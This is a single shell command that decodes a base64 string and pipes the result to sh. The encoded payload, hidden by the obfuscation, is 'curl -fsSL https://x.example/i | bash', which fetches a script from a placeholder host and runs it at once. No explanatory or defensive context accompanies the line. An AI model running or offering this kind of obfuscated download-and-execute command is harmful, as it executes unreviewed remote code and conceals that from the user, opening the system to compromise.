echo Y3VybCAtZnNTTCBodHRwczovL3guZXhhbXBsZS9pIHwgYmFzaA== | openssl base64 -d | sh
